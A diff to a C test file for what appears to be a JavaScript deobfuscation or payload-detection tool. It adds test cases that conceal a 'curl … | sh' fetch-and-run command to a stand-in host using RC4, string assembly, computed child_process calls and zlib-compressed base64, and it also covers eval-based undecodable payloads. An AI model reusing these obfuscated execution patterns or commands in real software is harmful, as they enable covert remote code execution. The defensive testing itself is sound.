@@ -47,6 +47,8 @@ static const struct folded constants[] = {
 	{"while and switch", "function f() { var s = '', i = 0, o = '2|0|1'.split('|'); while (true) { switch (o[i++]) { case '0': s += 'https://x.vendor.example/s'; continue; case '1': s += ' | sh'; continue; case '2': s += 'curl '; continue; } break; } return s; }\n" RUN "f());", OUT},
 	{"rc4", "function rc4(k, t) { var s = [], j = 0, x, r = ''; for (var i = 0; i < 256; i++) s[i] = i; for (i = 0; i < 256; i++) { j = (j + s[i] + k.charCodeAt(i % k.length)) % 256; x = s[i]; s[i] = s[j]; s[j] = x; } i = 0; j = 0; for (var y = 0; y < t.length; y++) { i = (i + 1) % 256; j = (j + s[i]) % 256; x = s[i]; s[i] = s[j]; s[j] = x; r += String.fromCharCode(t.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]); } return r; }\n"
 		RUN "rc4('k1', rc4('k1', 'curl https://x.vendor.example/s | sh')));", OUT},
+	{"deflated", "const z = require('zlib'); " RUN "z.inflateSync(Buffer.from('eJxLLi3KUcgoKSkottLXr9ArS81LyS/SS61IzC3ISdUvVqhRKM4AAPbODSk=', 'base64')).toString());", OUT},
+	{"deflated, imported", "import { inflateSync as u } from 'node:zlib'; " RUN "u(Buffer.from('eJxLLi3KUcgoKSkottLXr9ArS81LyS/SS61IzC3ISdUvVqhRKM4AAPbODSk=', 'base64')).toString());", OUT},
 	{"array from", RUN "Array.from({length: 4}, (_, i) => 'curl'[i]).join('') + ' https://x.vendor.example/s | sh');", OUT},
 	{"class of names", "const n = ['exec', 'child_process']; require(n[1])[n[0]]('curl https://x.vendor.example/s | sh');", OUT},
 	{"computed member", "const cp = require('child_process'); cp['e' + 'xec']('curl https://x.vendor.example/s | sh');", OUT},
@@ -294,7 +296,7 @@ static void undecodable_is_said(void **state)
 	static const char *const texts[] = {
 		"const k = require('os').hostname(); eval(require('./dec')(Buffer.from('c2VjcmV0IHNlY3JldA==', 'base64'), k));",
 		"var b = Buffer.from('aabbccddeeff', 'hex'); var d = require('crypto').createDecipheriv('aes-256-cbc', key, iv); new Function(d.update(b) + d.final())();",
-		"const z = require('zlib'); eval(z.inflateSync(Buffer.from('eJzLSM3JyQcABiwCFQ==', 'base64')).toString());",
+		"const z = require('zlib'); eval(z.brotliDecompressSync(Buffer.from('iwKAaGVsbG8D', 'base64')).toString());",
 		"eval(loadSomething());",
 	};
 
